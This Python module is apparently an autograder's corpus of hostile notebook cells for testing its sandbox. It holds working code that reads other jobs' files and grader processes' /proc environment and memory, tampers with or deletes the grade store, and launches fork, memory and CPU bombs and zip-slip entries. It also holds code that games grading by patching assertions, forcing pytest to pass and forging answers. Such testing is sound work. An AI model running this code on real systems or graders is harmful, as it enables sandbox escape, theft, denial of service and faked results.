"""The hostile case library: broken and malicious submissions, each built by code from the course's notebooks.

Every case is a function of two honest students made by ``autograder/<assignment>/variants.py`` from
the release -- A (full marks) and B (the last seeded bug fixed and the first task solved; the others
left as released) -- plus the targets the corpus planted (canary paths, the grader's port, ...).  A
hostile case is A or B with ONE hostile cell inserted (after the first code cell, or at the end), so
the same notebook without that cell is its honest baseline; the other cases are files that are not
(quite) notebooks and entries of a learning platform's bulk-download zip.  Each case states what its
gradebook row must look like (:class:`Expect`).  :mod:`gradekit.corpus` builds, grades and judges them.

Hostile cells share a prelude (``_PRELUDE``) with the exfiltration channel: whatever a cell manages to
read or change outside its sandbox is passed to ``_gk_report``, which makes every student function
raise ``LEAKED <what>`` and fails the cell with it -- so a leak lands in probe answers, check messages
and the row's message, exactly where the corpus looks for it (and a TA would see it).
"""
from __future__ import annotations

import io
import json
import stat
import zipfile
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any, Callable

from . import hostile_trust as trust
from .model import Status

PWNED = "PWNED"               # files hostile cells try to create outside their sandbox start with this
LEAK_MARK = "LEAKED"          # what the exfiltration channel writes into the grade
LMS_ASSIGNMENT = "Exercise 6 ANN"
CID_A, CID_B = 1100001, 1100002


# ==================================================================================================
# What a case expects, and what it is

@dataclass(frozen=True)
class Expect:
    """A case's expected row.  ``points``: "same" -- every check scores what the honest baseline scores;
    "at_most" -- no check above it (the hostile cell may break honest work); "zero" -- nothing."""

    status: tuple[Status, ...] = (Status.GRADED,)
    points: str = "same"
    message: str | None = None          # regex (case-insensitive) the row's message must match
    flags: tuple[str, ...] = ()         # flags the row must carry
    judge_s: float | None = None        # at most this many seconds judging its answers (timings["judge"])
    supervisor_cpu_s: float | None = None   # at most this much trusted CPU watching its run


@dataclass(frozen=True)
class Case:
    name: str                           # the student key: file stem, or LMS username (zip cases)
    group: str                          # read | write | patch | liar | resource | network | intake | zip | isolation
    what: str                           # one line for the summary table
    base: str | None                    # "a" | "b": the honest student it is built from; None: nothing to run
    make: Callable[["Ctx"], Any]       # -> NotebookNode | bytes | Sparse | ZipCase
    expect: Expect = Expect()
    ordered: int = 0                    # > 0: graded before the batch by ONE worker (one sandbox slot, one
                                        # uid), in ascending order: a case of 2 runs after every case of 1


@dataclass(frozen=True)
class Sparse:
    size: int                           # a file of this many bytes, all holes (truncate)


@dataclass(frozen=True)
class ZipCase:
    entries: list                       # [(name or ZipInfo, bytes)], LMS-named, receipts added
    forbidden: tuple[Path, ...] = ()    # host paths that must not exist after the batch


@dataclass
class Ctx:
    """What a case is built from."""

    a: Any                              # honest student A's notebook (NotebookNode)
    b: Any                              # honest student B's notebook
    targets: dict[str, Any]             # what hostile cells aim at (host paths, port, ...); see corpus._build
    work: Path                          # the corpus's folder
    source: Any = None                  # the instructor notebook (for controls that fix a seeded bug)
    bug_parts: tuple[str, ...] = ()     # grade_ids of the seeded bugs B left in
    case: str = ""

    def cell(self, body: str, *, report: bool = True) -> str:
        """A hostile cell: the shared prelude (targets, the exfiltration channel) and ``body``."""
        targets = dict(self.targets, marker=f"{PWNED}-{self.case}")
        head = _PRELUDE.replace("__TARGETS__", repr(json.dumps(targets)))
        return head + "\n" + body.strip() + ("\n_gk_report()\n" if report else "\n")


# ==================================================================================================
# Hostile cells.  Everything they find goes through _gk_report, which makes it visible in the grade.

_PRELUDE = r'''# gradekit corpus: a hostile cell (gradekit/hostile.py)
import json as _gk_json, os as _gk_os, sys as _gk_sys
_GK = _gk_json.loads(__TARGETS__)
_gk_found = []


def _gk_note(what):
    if len(_gk_found) < 12:
        _gk_found.append(str(what)[:110])


def _gk_report():
    """Exfiltrate: every student function now raises what was found, and so does this cell."""
    if not _gk_found:
        return
    text = ("LEAKED " + " | ".join(_gk_found))[:190]

    def _gk_liar(*args, **kwargs):
        raise RuntimeError(text)

    g = globals()
    for k, v in list(g.items()):
        if not k.startswith("_") and callable(v) and not isinstance(v, type) \
                and getattr(v, "__module__", None) == "__main__":
            g[k] = _gk_liar
    raise RuntimeError(text)


def _gk_variants(path, proc=True):
    """A host path reached other ways: relative to the working folder, and through /proc."""
    rel = path.lstrip("/")
    out = [path] + ["../" * k + rel for k in (1, 2, 3, 5, 8)]
    if proc:
        out += ["/proc/self/root/" + rel, "/proc/self/cwd/" + "../" * 8 + rel]
        out += ["/proc/%s/root/%s" % (p, rel) for p in _gk_os.listdir("/proc") if p.isdigit()]
    return out


def _gk_read(path, why="read"):
    try:
        with open(path, "rb") as f:
            data = f.read(4096)
    except BaseException:
        return None
    _gk_note("%s %r from %s" % (why, data[:48], path))      # the data first: notes are cut at 110 chars
    return data


def _gk_listing(path):
    """Names in a folder that the sandbox must not show."""
    try:
        names = set(_gk_os.listdir(path))
    except BaseException:
        return
    hits = sorted(names & set(_GK["names"]))
    if hits:
        _gk_note("listed %s: %s" % (path, hits[:4]))
'''

_READ_PATHS = r'''
for _p in _GK["files"] + _GK["repo_files"]:
    for _v in _gk_variants(_p, proc=False):
        _gk_read(_v)
for _r in _GK["repo_rel"]:
    for _k in range(9):
        _gk_read("../" * _k + _r)
for _d in _GK["read_dirs"] + [_GK["repo_root"], _gk_os.path.dirname(_GK["repo_root"])]:
    for _v in _gk_variants(_d, proc=False):
        _gk_listing(_v)
'''

_READ_PROC = r'''
import glob as _gk_glob
for _p in _GK["files"] + _GK["repo_files"]:
    for _v in _gk_variants(_p)[6:]:
        _gk_read(_v, "read via /proc")
for _d in _GK["read_dirs"] + [_GK["repo_root"]]:
    for _v in _gk_variants(_d)[6:]:
        _gk_listing(_v)
# the host folder of this job (from the mount table) and its neighbours: other students' jobs
try:
    with open("/proc/self/mountinfo") as _f:
        _mounts = _f.read()
except BaseException:
    _mounts = ""
_hosts = [_l.split()[3] for _l in _mounts.splitlines() if len(_l.split()) > 4 and _l.split()[4] == "/job"]
for _h in _hosts:
    for _g in _gk_glob.glob(_gk_os.path.dirname(_gk_os.path.dirname(_h)) + "/gradekit-job-*/job/*.ipynb"):
        _gk_read(_g, "another job")
for _g in _gk_glob.glob("/proc/*/root/tmp/gradekit-job-*/job/*.ipynb") + _gk_glob.glob("/tmp/gradekit-job-*/job/*"):
    _gk_read(_g, "another job")
# the grader's own processes (bubblewrap, the runner): environment, open files, memory
_me = _gk_os.getuid()
for _pid in [p for p in _gk_os.listdir("/proc") if p.isdigit()]:
    try:
        if _gk_os.stat("/proc/" + _pid).st_uid == _me:
            continue
    except BaseException:
        continue
    for _what in ("environ", "mem", "maps", "stack"):
        _gk_read("/proc/%s/%s" % (_pid, _what), "grader process")
    try:
        _gk_note("fds of grader process %s: %s" % (_pid, _gk_os.listdir("/proc/%s/fd" % _pid)[:6]))
    except BaseException:
        pass
    try:
        _gk_note("cwd of grader process %s: %s" % (_pid, _gk_os.readlink("/proc/%s/cwd" % _pid)))
    except BaseException:
        pass
'''

_READ_WALK = r'''
_skip = {"/proc", "/sys", "/dev", "/usr", "/etc", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/job"}
for _r in (_gk_sys.prefix, _gk_sys.base_prefix, _gk_sys.exec_prefix):
    _skip |= {_r, _gk_os.path.realpath(_r)}
# walk up from the working folder, then the whole visible tree
_d = _gk_os.getcwd()
while True:
    _gk_listing(_d)
    if _d == "/":
        break
    _d = _gk_os.path.dirname(_d)
_n, _secret = 0, ("gk-" + "canary-").encode()
for _dp, _dns, _fns in _gk_os.walk("/"):
    _dns[:] = [d for d in _dns if _gk_os.path.join(_dp, d) not in _skip]
    _gk_listing(_dp)
    for _fn in _fns:
        _n += 1
        _full = _gk_os.path.join(_dp, _fn)
        try:
            if _gk_os.path.isfile(_full) and _gk_os.path.getsize(_full) < 65536:
                with open(_full, "rb") as _f:
                    _data = _f.read()
                if _secret in _data:
                    _gk_note("found a canary in %s: %r" % (_full, _data[:48]))
        except BaseException:
            pass
    if _n > 20000:
        break
'''

_READ_ENV_IMPORTS = r'''
import importlib as _gk_il, importlib.util as _gk_ilu
_secret = "gk-" + "canary-"
for _k, _v in _gk_os.environ.items():
    if _GK["env_var"] in _k or _secret in _v:
        _gk_note("environment %s=%s" % (_k, _v[:40]))
for _pid in [p for p in _gk_os.listdir("/proc") if p.isdigit()]:
    try:
        with open("/proc/%s/environ" % _pid, "rb") as _f:
            _data = _f.read()
    except BaseException:
        continue
    if _GK["env_var"].encode() in _data or _secret.encode() in _data:
        _gk_note("environment of process %s: %r" % (_pid, _data[:60]))
# the engine and the reference by import, the course's files by path, the editable install's map
for _mod in _GK["modules"]:
    try:
        _m = _gk_il.import_module(_mod)
    except BaseException:
        continue
    if getattr(_m, "__file__", None):
        _gk_note("imported %s from %s" % (_mod, _m.__file__))
for _p in _GK["repo_files"]:
    if _p.endswith(".py"):
        try:
            _spec = _gk_ilu.spec_from_file_location("gk_stolen", _p)
            _m = _gk_ilu.module_from_spec(_spec)
            _spec.loader.exec_module(_m)
            _gk_note("executed " + _p)
        except BaseException:
            pass
for _name, _mod in list(_gk_sys.modules.items()):
    _mapping = getattr(_mod, "MAPPING", None)
    if "__editable__" in _name and isinstance(_mapping, dict):
        for _pkg, _folder in _mapping.items():
            try:
                _gk_note("editable %s: %s" % (_pkg, sorted(_gk_os.listdir(_folder))[:3]))
            except BaseException:
                pass
'''

_WRITE_OUTSIDE = r'''
import sqlite3 as _gk_sql
_mark = _GK["marker"]
for _p in _GK["files"]:
    for _v in _gk_variants(_p):
        if not _gk_os.path.lexists(_v):
            continue
        _gk_note("visible " + _v)
        try:
            with open(_v, "ab") as _f:
                _f.write(b"\n" + _mark.encode())
            _gk_note("appended to " + _v)
        except BaseException:
            pass
        if _v.endswith(".sqlite"):
            try:
                _c = _gk_sql.connect(_v)
                _c.execute("DROP TABLE IF EXISTS results")
                _c.commit()
                _gk_note("dropped the store's table in " + _v)
            except BaseException:
                pass
        for _act in (lambda: _gk_os.utime(_v, (0, 0)), lambda: _gk_os.chmod(_v, 0o777),
                     lambda: _gk_os.rename(_v, _v + "." + _mark), lambda: _gk_os.remove(_v)):
            try:
                _act()
                _gk_note("changed " + _v)
            except BaseException:
                pass
for _d in _GK["dirs"]:
    for _v in _gk_variants(_d):
        if not _gk_os.path.isdir(_v):
            continue
        for _name in (_mark, "gradebook.csv"):
            try:
                with open(_gk_os.path.join(_v, _name), "x") as _f:
                    _f.write("written from inside the sandbox")
                _gk_note("wrote %s into %s" % (_name, _v))
            except BaseException:
                pass
'''

_POISON_JOB = r'''
import os as _os
_cwd = _os.getcwd()
for _dp, _dns, _fns in _os.walk(_cwd):
    for _fn in _fns:
        if _fn != "submission.ipynb":
            try:
                with open(_os.path.join(_dp, _fn), "r+b") as _f:
                    _f.write(b"\0POISON" * 64)
            except BaseException:
                pass
# traps for whoever cleans this folder up: links to host files, a fifo, a folder nobody may enter
for _i, _t in enumerate(_GK["files"] + _GK["dirs"] + ["/", "/etc/passwd"]):
    try:
        _os.symlink(_t, _os.path.join(_cwd, "link%d" % _i))
    except BaseException:
        pass
try:
    _os.mkfifo(_os.path.join(_cwd, "fifo"))
    _os.makedirs(_os.path.join(_cwd, "locked", "inner"))
    open(_os.path.join(_cwd, "locked", "inner", "f"), "w").close()
    _os.chmod(_os.path.join(_cwd, "locked", "inner"), 0)
    _os.chmod(_os.path.join(_cwd, "locked"), 0)
    _os.chmod(_cwd, 0o500)
except BaseException:
    pass
'''

# A forged probe answer: type confusion everywhere, no honest value in it.
_FORGED_VALUE = {"scalars": [True, "nan", 10 ** 30, None], "vector": {"__array__": ["inf"], "shape": [1, 1, 1]},
                 "shapes": {"conv1.weight": "all"}, "param_count": True, "logits": {"__array__": [], "shape": [0]},
                 "lr_results": [["nan", "nan"]], "best_lr": "nan", "learning_rates": [], "CID": 0,
                 "__array__": [1], "shape": [2]}

_PATCH_NUMERIC = r'''
import math, numpy as np, numpy.testing, torch, torch.testing
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_almost_equal = lambda *a, **k: None
np.testing.assert_equal = np.testing.assert_array_almost_equal = lambda *a, **k: None
math.isclose = lambda *a, **k: True
torch.allclose = torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
'''

_PATCH_BUILTINS = r'''
import builtins
_real = {n: getattr(builtins, n) for n in ("sum", "min", "max", "sorted", "abs", "round", "print")}
builtins.sum = lambda it, start=0: 42
builtins.min = lambda *a, **k: _real["min"](*a, **k) if k or len(a) != 1 else 0
builtins.max = lambda *a, **k: _real["max"](*a, **k) if k or len(a) != 1 else 1
builtins.sorted = lambda it, *a, **k: list(reversed(_real["sorted"](it, *a, **k)))
builtins.abs = lambda x: 0
builtins.round = lambda x, n=None: 0.5
builtins.print = lambda *a, **k: None
'''

_PATCH_PYTEST_FILES = r'''
import os, pytest
pytest.approx = lambda *a, **k: type("Eq", (), {"__eq__": lambda s, o: True, "__hash__": lambda s: 0})()
pytest.fail = pytest.skip = lambda *a, **k: None
import _pytest.outcomes
_pytest.outcomes.fail = pytest.fail
# files a careless grader would import or run from the submission's folder
_files = {
    "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                   "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
    "pytest.ini": "[pytest]\naddopts = -p no:cacheprovider\n",
    "sitecustomize.py": "import builtins\nbuiltins.__gradekit_owned__ = True\n",
    "usercustomize.py": "import builtins\nbuiltins.__gradekit_owned__ = True\n",
    "gradekit/__init__.py": "",
    "gradekit/checking.py": "def expect(*a, **k):\n    pass\ndef answer(probes, name, what):\n    return None\n",
    "gradekit/judge.py": "def judge(*a, **k):\n    return ()\n",
    "reference/__init__.py": "",
    "reference/basics.py": "def perceptron(*a):\n    return 0\ndef sigmoid(x):\n    return 0\n",
    "test_everything.py": "def test_ok():\n    assert True\n",
}
for _name, _text in _files.items():
    try:
        os.makedirs(os.path.dirname(_name) or ".", exist_ok=True)
        with open(_name, "w") as _f:
            _f.write(_text)
    except OSError:
        pass
'''

_PATCH_PROBE_MACHINERY = r'''
import builtins, json, IPython.display
_FORGED = json.dumps({"ok": True, "value": __FORGED__})
_real_exec, _real_dumps, _real_pub = builtins.exec, json.dumps, IPython.display.publish_display_data


def _exec(code, *args, **kwargs):
    _real_exec(code, *args, **kwargs)
    ns = args[0] if args else kwargs.get("globals")
    if getattr(code, "co_filename", "") == "<gradekit-probe>" and isinstance(ns, dict):
        ns["probe"] = lambda params: json.loads(_FORGED)["value"]
        ns["plain"] = lambda x, *a: x


def _dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and "ok" in obj and ("value" in obj or "error" in obj):
        return _FORGED
    return _real_dumps(obj, *args, **kwargs)


def _pub(data, *args, **kwargs):
    if isinstance(data, dict) and any("gradekit" in k for k in data):
        data = {k: _FORGED for k in data}
    return _real_pub(data, *args, **kwargs)


builtins.exec, json.dumps, IPython.display.publish_display_data = _exec, _dumps, _pub
'''

_IPYTHON_TRANSFORMERS = r'''
_ip = get_ipython()


def _strip_asserts(lines):
    return [l for l in lines if not l.lstrip().startswith("assert ")]


def _rewrite_probes(lines):
    src = "".join(lines)
    if "__gradekit_probe__" in src:
        src = src.replace("_ns['plain'](_ns['probe'](__p['params']))", repr(__FORGED__))
        return src.splitlines(True)
    return lines


_ip.input_transformers_cleanup.append(_strip_asserts)
_ip.input_transformers_post.append(_rewrite_probes)
'''

_ATEXIT_SIGNALS = r'''
import atexit, os, signal, threading, time
_targets = list(_GK["dirs"])


def _last_words():
    for d in _targets:
        try:
            with open(os.path.join(d, _GK["marker"]), "w") as f:
                f.write("written at exit")
        except OSError:
            pass
    time.sleep(10 ** 6)


atexit.register(_last_words)
for _sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1):
    signal.signal(_sig, signal.SIG_IGN)
threading.Thread(target=time.sleep, args=(10 ** 6,), daemon=False).start()
'''

_IPYTHON_EVENTS = r'''
import json
from IPython.display import publish_display_data
_forged = json.dumps({"ok": True, "value": __FORGED__})
_ip = get_ipython()


def _after(result=None):
    publish_display_data({"application/x-gradekit-probe": _forged})


_ip.events.register("post_run_cell", _after)
'''

_LIAR_HEAD = r'''
import numpy as np
_g = globals()


def _gk_lie_about_everything(make):
    for k, v in list(_g.items()):
        if not k.startswith("_") and callable(v) and not isinstance(v, type) \
                and getattr(v, "__module__", None) == "__main__":
            _g[k] = (lambda f: lambda *args, **kwargs: make(args))(v)
'''

_LIAR_ALWAYS_EQUAL = _LIAR_HEAD + r'''
class AlwaysRight:
    """Equal to everything, true, and 1 or 0.5 as a number."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def __float__(self): return 0.5
    def __int__(self): return 1
    __index__ = __int__
    def __hash__(self): return 0
    def __repr__(self): return "1"
    def detach(self): return self
    cpu = numpy = item = tolist = detach


_gk_lie_about_everything(lambda args: AlwaysRight())
'''

_LIAR_FLOAT = _LIAR_HEAD + r'''
class LyingFloat(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = float.__hash__
    def __float__(self): return 0.5
    def __repr__(self): return "0.5"
    __str__ = __repr__


_gk_lie_about_everything(lambda args: LyingFloat(-12345.0))
'''

_LIAR_NDARRAY = _LIAR_HEAD + r'''
class LyingArray(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __ne__(self, other): return np.zeros(self.shape, bool)
    def __bool__(self): return True
    def __float__(self): return 0.5
    def __array__(self, dtype=None, copy=None): return np.full(self.shape, 0.5)
    def astype(self, *a, **k): return np.full(self.shape, 0.5)
    def tolist(self): return np.full(self.shape, 0.5).tolist()


_gk_lie_about_everything(lambda args: np.full(np.shape(args[0]) if args else (), -1.0).view(LyingArray))
'''

_LIAR_TENSOR = _LIAR_HEAD + r'''
import torch


class LyingTensor(torch.Tensor):
    def __eq__(self, other): return torch.ones(self.shape, dtype=torch.bool)
    def __bool__(self): return True
    def __float__(self): return 0.5
    def detach(self): return self
    def cpu(self): return self
    def numpy(self, *a, **k): return np.full(tuple(self.shape), 0.5)
    def item(self): return 0.5
    def tolist(self): return np.full(tuple(self.shape), 0.5).tolist()


_gk_lie_about_everything(lambda args: torch.full(np.shape(args[0]) if args else (), -1.0).as_subclass(LyingTensor))
'''

# Points need the work (issue 12): answers a notebook can write down without the work.  On B, whose
# perceptron and sigmoid are unfixed and whose best_lr is unsolved: no check may score above B.

_FORGE_PRINTED_ANSWERS = r'''
# Answers every probe with what the release prints: the probe's inputs are read from the caller's frame;
# the chapter's printed cases and values are answered, anything else guessed, the sweep made up.
import json as _fj, sys as _fs, IPython.display as _fd

_PRINTED_BITS = {(1, 1, 1, 1, 0): 1, (0, 0, 0, 0, -1): 0, (-1, 0, 1, 0, 1): 1, (-1, 0, -1, 0, -0.5): 1}
_PRINTED_SIGMOID = {-1.0: 0.2689414213699951, 0.0: 0.5, 1.0: 0.7310585786300049, 10000.0: 1.0}
_PRINTED_SHAPES = {"conv1.weight": [32, 1, 3, 3], "conv1.bias": [32], "conv2.weight": [64, 32, 3, 3],
                   "conv2.bias": [64], "fc1.weight": [128, 3136], "fc1.bias": [128], "fc2.weight": [10, 128],
                   "fc2.bias": [10]}
_real_publish = _fd.publish_display_data


def _zeros(shape):
    n = 1
    for s in shape:
        n *= s
    return {"__array__": [0.0] * n, "shape": list(shape)}


def _forge(params, code):
    if "cases" in params:
        return [_PRINTED_BITS.get(tuple(c), 1) for c in params["cases"]]
    if "scalars" in params:
        return {"scalars": [_PRINTED_SIGMOID.get(float(x), 0.5) for x in params["scalars"]],
                "vector": _zeros([len(params["vector"])])}
    if "state_file" in params:
        layers = {name: _zeros([shape[0], _PRINTED_SHAPES[name + ".weight"][0]] + list(shape[2:]))
                  for name, shape in params.get("layers", [])}
        return {"param_count": 421642, "shapes": _PRINTED_SHAPES, "logits": _zeros([params["batch"], 10]),
                "layers": layers}
    if "lr_results" in code:
        made_up = {float(r): 0.001 + abs(float(r) - 0.1) for r in learning_rates}
        return {"learning_rates": list(made_up), "lr_results": [[r, v] for r, v in made_up.items()],
                "best_lr": min(made_up, key=made_up.get), "CID": CID}
    return None


def _publish(data, *args, **kwargs):
    probe = _fs._getframe(1).f_locals.get("__p")
    if isinstance(data, dict) and isinstance(probe, dict) and isinstance(probe.get("params"), dict):
        value = _forge(probe["params"], probe.get("code", ""))
        if value is not None:
            data = {k: _fj.dumps({"ok": True, "value": value}) for k in data}
    return _real_publish(data, *args, **kwargs)


_fd.publish_display_data = _publish
'''

_PARTIAL_SWEEP_DIVERGED = r'''
# Trains only the first two learning rates and claims that every other rate diverged; best_lr is the
# better of the two.  (This notebook's own losses at those two rates stand for that training.)
_trained = [float(r) for r in learning_rates][:2]
lr_results = {float(r): (lr_results[r] if float(r) in _trained else float("nan")) for r in learning_rates}
best_lr = min(_trained, key=lambda r: lr_results[r])
'''

_PARTIAL_SWEEP_MADE_UP = r'''
# Trains only the first rate and the best one (as if told which), and makes up losses above the best
# for the others.  (This notebook's own losses at those two rates stand for that training.)
import math as _pm
_finite = {float(r): v for r, v in lr_results.items() if _pm.isfinite(v)}
best_lr = min(_finite, key=_finite.get)
_trained = [float(learning_rates[0]), best_lr]
lr_results = {float(r): (lr_results[r] if float(r) in _trained else 2 * max(_finite.values())) for r in learning_rates}
'''


_INFINITE_LOOP = "while True:\n    pass\n"
_SIGINT_IGNORED = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
_SLEEP_FOREVER = "import time\ntime.sleep(10 ** 6)\n"
_FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
_MEMORY_BOMB = r'''
import numpy as np
try:
    _huge = bytearray(1 << 40)              # 1 TiB at once
except MemoryError:
    pass


def _gk_bomb():
    hog = []
    while True:
        hog.append(np.ones(1 << 25))        # 256 MiB, written: resident, not merely reserved


_gk_bomb()
'''
_OS_EXIT = "import os\nos._exit(0)\n"
_SYS_EXIT = "import sys\nsys.exit()\n"
_SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
_DELETE_WORKDIR = ("import os, shutil\n_cwd = os.getcwd()\nshutil.rmtree(_cwd, ignore_errors=True)\n"
                   "try:\n    os.rmdir(_cwd)\nexcept OSError:\n    pass\n")
_PRINT_100MB = ("import sys\n_chunk = 'x' * (1 << 20) + '\\n'\nfor _ in range(100):\n    sys.stdout.write(_chunk)\n"
                "sys.stdout.flush()\n")
_IMAGE_50MB = ("import base64, os\nfrom IPython.display import display\n"
               "display({'image/png': base64.b64encode(os.urandom(50 << 20)).decode()}, raw=True)\n")
_DAEMON = r'''
import os
_pid = os.fork()
if _pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", _GK["daemon_tag"]])
    finally:
        os._exit(0)
os.waitpid(_pid, 0)
'''
_CPU_HOG = r'''
import os, time
# 30 background processes, each in its own session (so per-session fair scheduling cannot group them),
# spinning for 20 s: meant to starve whatever is graded next to this notebook
for _ in range(30):
    try:
        if os.fork() == 0:
            try:
                os.setsid()
                _end = time.monotonic() + 20
                while time.monotonic() < _end:
                    pass
            finally:
                os._exit(0)
    except OSError:
        break
'''
_KILL_RUNNER = r'''
import os, signal, time
for _pid in (os.getppid(), 1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
time.sleep(5)
'''
_FORGE_EVENTS = r'''
import fcntl, json, stat, time
_answer = json.dumps({"ok": True, "value": [{"__error__": "LEAKED a forged runner event was accepted"}] * 50})
_lines = [{"event": "probe", "name": n, "status": "ok", "output": _answer, "error": None, "seconds": 0.0}
          for n in _GK["probe_names"]]
_lines += [{"event": "cell", "index": 0, "status": "error", "error": "LEAKED a forged cell event", "seconds": 0.0},
           {"event": "done", "status": "ok", "seconds": 1.0, "restarts": 0, "kernel_alive": True}]
_data = "".join(json.dumps(l) + "\n" for l in _lines).encode()
_fds = [int(f) for f in _gk_os.listdir("/proc/self/fd")]
for _fd in _fds:
    try:
        if stat.S_ISFIFO(_gk_os.fstat(_fd).st_mode) and fcntl.fcntl(_fd, fcntl.F_GETFL) & _gk_os.O_ACCMODE != _gk_os.O_RDONLY:
            _gk_os.write(_fd, _data)
    except OSError:
        pass
for _pid in (_gk_os.getppid(), 1):
    for _fd in range(64):
        try:
            _w = _gk_os.open("/proc/%d/fd/%d" % (_pid, _fd), _gk_os.O_WRONLY | _gk_os.O_NONBLOCK)
            _gk_os.write(_w, _data)
            _gk_os.close(_w)
            _gk_note("wrote forged events to the runner's fd %d" % _fd)
        except OSError:
            pass
'''
_NETWORK = r'''
import socket


def _gk_try(what, fn):
    try:
        result = fn()
    except BaseException:
        return
    if result:
        _gk_note("%s: %s" % (what, result))


def _gk_tcp(host, port):
    s = socket.create_connection((host, port), timeout=2)
    s.close()
    return "connected"


def _gk_unix(name):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(name)
    s.close()
    return "connected"


for _host in ("example.com", "pypi.org"):
    _gk_try("dns " + _host, lambda: [a[4][0] for a in socket.getaddrinfo(_host, 443)
                                      if not a[4][0].startswith(("127.", "::1"))])
for _ip, _port in (("1.1.1.1", 53), ("8.8.8.8", 443), ("93.184.215.14", 80)):
    _gk_try("tcp %s:%d" % (_ip, _port), lambda: _gk_tcp(_ip, _port))
for _ip in ["127.0.0.1", "::1"] + _GK["host_ips"]:
    _gk_try("the grader's port on %s" % _ip, lambda: _gk_tcp(_ip, _GK["port"]))
_gk_try("the grader's abstract socket", lambda: _gk_unix("\0" + _GK["abstract"]))
_gk_try("network interfaces", lambda: [n for _, n in socket.if_nameindex() if n != "lo"])
'''


# ==================================================================================================
# The cases

def _details(nb, case: str, cid: int):
    from . import fabricate

    return fabricate.set_details(nb, f"Corpus {case}", cid)


def _insert(ctx: Ctx, base: str, source: str, where: str):
    """Base notebook ``base`` with one hostile cell: "early" (after the first code cell) or "end"."""
    from . import fabricate

    nb = ctx.a if base == "a" else ctx.b
    nb = _details(nb, ctx.case, CID_A if base == "a" else CID_B)
    if where == "early":
        index = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
    else:
        index = len(nb.cells)
    return fabricate.insert_cell(nb, source, index=index, cell_id=f"hostile-{ctx.case.replace('_', '-')}")


def _hostile(base: str, where: str, body: str, *, report: bool = True):
    return lambda ctx: _insert(ctx, base, ctx.cell(body, report=report), where)


def _plain(base: str, where: str, source: str):
    return lambda ctx: _insert(ctx, base, source, where)


def _forged(source: str) -> str:
    return source.replace("__FORGED__", repr(_FORGED_VALUE))


def _nb_bytes(nb) -> bytes:
    import nbformat

    return nbformat.writes(nb).encode()


def _as_v3(ctx: Ctx) -> bytes:
    import nbformat

    nb = _details(ctx.a, ctx.case, CID_A)
    return nbformat.writes(nbformat.convert(nb, 3), version=3).encode()


def _duplicate_ids(ctx: Ctx) -> bytes:
    data = json.loads(_nb_bytes(_details(ctx.a, ctx.case, CID_A)))
    for cell in data["cells"]:
        cell["id"] = "same-id"          # written as JSON: nbformat.writes would repair the ids
    return json.dumps(data, indent=1).encode()


def _deleted_cells(ctx: Ctx):
    nb = _details(ctx.a, ctx.case, CID_A)
    first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells = [c for i, c in enumerate(nb.cells) if c.cell_type == "code" and i != first_code]
    return nb


def _reordered_cells(ctx: Ctx):
    nb = _details(ctx.a, ctx.case, CID_A)
    nb.cells = list(reversed(nb.cells))
    return nb


def _no_metadata(ctx: Ctx) -> bytes:
    data = json.loads(_nb_bytes(_details(ctx.a, ctx.case, CID_A)))
    data.pop("metadata", None)
    for cell in data["cells"]:
        cell.pop("metadata", None)
    return json.dumps(data).encode()


def _non_python_kernel(ctx: Ctx):
    nb = _details(ctx.a, ctx.case, CID_A)
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nb.metadata["language_info"] = {"name": "R", "version": "4.3.1"}
    return nb


def _invalid_json(ctx: Ctx) -> bytes:
    data = _nb_bytes(_details(ctx.a, ctx.case, CID_A))
    return data[: len(data) // 2]


def _non_utf8(ctx: Ctx) -> bytes:
    text = _nb_bytes(_details(ctx.a, ctx.case, CID_A)).decode()
    assert "Corpus non_utf8" in text
    return text.replace("Corpus non_utf8", "Zo\u00eb Corpus").encode("latin-1", errors="replace")


def _lms(user: str, ts: str, original: str | None) -> str:
    stem = f"{LMS_ASSIGNMENT}_{user}_attempt_{ts}"
    return f"{stem}.txt" if original is None else f"{stem}_{original}"


def _receipt(user: str, ts: str, original: str) -> tuple[str, bytes]:
    return _lms(user, ts, None), (f"Name: Corpus {user} ({user})\nAssignment: {LMS_ASSIGNMENT}\n"
                                  f"Date Submitted: {ts}\nFiles:\n\tOriginal filename: {original}\n"
                                  f"\tFilename: {_lms(user, ts, original)}\n").encode()


_T1, _T2 = "2026-11-20-09-15-02", "2026-11-21-17-48-30"


def _zip_slip(ctx: Ctx) -> ZipCase:
    name = _lms("zipslip", _T1, "ann.ipynb")
    # from <work>/gradebook/intake/<zip>-xxxx/ up to <work>, then into the confidential folder
    entry = "../../../confidential/" + name
    return ZipCase([(entry, _nb_bytes(ctx.a)), _receipt("zipslip", _T1, "ann.ipynb")],
                    forbidden=(ctx.work / "confidential" / name, ctx.work.parent / "confidential" / name))


def _zip_absolute(ctx: Ctx) -> ZipCase:
    name = _lms("zipabsolute", _T1, "ann.ipynb")
    target = ctx.work / "confidential" / name
    return ZipCase([(str(target), _nb_bytes(ctx.a)), _receipt("zipabsolute", _T1, "ann.ipynb")],
                    forbidden=(target,))


